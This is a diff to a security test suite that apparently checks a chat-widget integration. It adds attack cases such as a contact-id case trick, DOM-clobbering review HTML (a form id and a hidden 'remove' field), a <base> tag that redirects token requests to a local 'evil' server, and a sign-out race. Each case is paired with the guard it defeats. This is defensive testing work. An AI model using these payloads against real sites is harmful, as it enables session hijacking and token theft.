@@ -5,7 +5,7 @@ import { type ChatPage, openChatPage } from "../browser/chat-page.ts";
 import { launchChromium } from "../browser/chromium.ts";
 import { serveOwnPages } from "../browser/own-pages.ts";
 import { signToken } from "../playground/connect/sign-token.ts";
-import { startPlayground } from "../playground/playground.ts";
+import { type Playground, startPlayground } from "../playground/playground.ts";
 import { control, observe } from "../worker/instrumented.ts";
 import { securityKey, widgetId } from "../worker/settings.ts";
 import { type RunningWorker } from "../worker/start-worker.ts";
@@ -55,6 +55,17 @@ export const chatAttacks: readonly Attack[] = [
     },
   },
   {
+    name: "Reports a contact id of somebody else's in capital letters, as another one",
+    withoutGuard: { file: "src/adapters/web-crypto.ts", from: "contactId.toLowerCase()", to: "contactId" },
+    async attempt({ start }) {
+      const { origin } = await start();
+      await createVisitorWithChat(origin);
+      const attacker = createVisitorClient(origin);
+      await attacker.report({ ticket: (await attacker.token()).ticket, contactId: CONTACT_ID.toUpperCase() });
+      return (await askContact(attacker)) === CONTACT_ID.toUpperCase();
+    },
+  },
+  {
     name: "Reports a contact id that it has learnt or guessed before its owner does, where the AWS keys are set",
     withoutGuard: {
       file: "src/core/ownership.ts",
@@ -97,7 +108,7 @@ export const chatAttacks: readonly Attack[] = [
       const { origin } = await start();
       const visitor = createVisitorClient(origin);
       const { ticket } = await visitor.token();
-      await visitor.report({ ticket, contactId: "contact-of-its-own" });
+      await visitor.report({ ticket, contactId: "0-contact-of-its-own" });
       await visitor.report({ ticket, contactId: CONTACT_ID });
       return isOfferedAtAll(visitor);
     },
@@ -396,10 +407,74 @@ export const chatAttacks: readonly Attack[] = [
       to: "return [...found].slice(0, 1).filter(",
     },
     attempt: (target) =>
-      inShop(target, { review: '<p id="amazon-connect-chat-widget">Nice tea.</p>' }, async ({ page, open, say }) => {
+      inShop(
+        target,
+        { review: '<form id="amazon-connect-chat-widget">Nice tea.</form>' },
+        async ({ page, open, say }) => {
+          await open();
+          await say("private");
+          return writesAfterSignOut(page, say);
+        },
+      ),
+  },
+  {
+    name: "Has a field of its own form stand in for the method that takes the chat off the screen",
+    withoutGuard: {
+      file: "src/browser/widget-element.ts",
+      from: "Element.prototype.remove.call(element)",
+      to: "element.remove()",
+    },
+    attempt: (target) => {
+      const review = '<form id="amazon-connect-chat-widget"><input name="remove" type="hidden"></form>';
+      return inShop(target, { review }, async ({ page, open, say }) => {
         await open();
         await say("private");
         return writesAfterSignOut(page, say);
+      });
+    },
+  },
+  {
+    name: "Has a <base> in its review send the visitor's calls to a server of its own, which answers with its own token",
+    withoutGuard: {
+      file: "src/browser/call-worker.ts",
+      from: "`${location.origin}${config.path}",
+      to: "`${config.path}",
+    },
+    attempt: async (target) => {
+      const evil = await startWatchedServer((_request, response) => response.end("{}"));
+      try {
+        return await inShop(target, { review: `<base href="${evil.origin}/">` }, async ({ page }) => {
+          await page.click("#amazon-connect-open-widget-button");
+          await page.waitForTimeout(1500);
+          return evil.asked.some(({ url }) => url === "/_chat/token");
+        });
+      } finally {
+        await evil.close();
+      }
+    },
+  },
+  {
+    name: "Sits down at a browser whose visitor signed out while their chat was being opened, and gets that chat",
+    withoutGuard: {
+      file: "src/browser/token-source.ts",
+      from: "if (departure !== readDeparture()) return NO_TOKEN;",
+      to: "",
+    },
+    attempt: (target) =>
+      inShop(target, {}, async ({ page }, _origin, { connect }) => {
+        const [asked, left] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
+        await page.route("**/_chat/token", async (route) => {
+          const response = await route.fetch();
+          asked.resolve();
+          await left.promise;
+          await route.fulfill({ response });
+        });
+        await page.click("#amazon-connect-open-widget-button");
+        await asked.promise;
+        await page.evaluate(() => fetch("/bye", { method: "POST" }));
+        left.resolve();
+        await page.waitForTimeout(2000);
+        return connect.contacts().length > 0;
       }),
   },
   {
@@ -450,7 +525,7 @@ interface Shop {
 async function inShop(
   { path }: Target,
   { review = "" }: Shop,
-  attempt: (chat: ChatPage, origin: string) => Promise<boolean>,
+  attempt: (chat: ChatPage, origin: string, playground: Playground) => Promise<boolean>,
 ): Promise<boolean> {
   const pages = await serveOwnPages();
   Object.assign(pages.pages, { "/": `<body>${review}A page</body>`, "/bye": "<body>Signed out</body>" });
@@ -463,7 +538,7 @@ async function inShop(
   const browser = await launchChromium();
   try {
     const { origin } = playground.worker;
-    return await attempt(await openChatPage(await browser.newContext(), origin), origin);
+    return await attempt(await openChatPage(await browser.newContext(), origin), origin, playground);
   } finally {
     await browser.close();
     await playground.close();
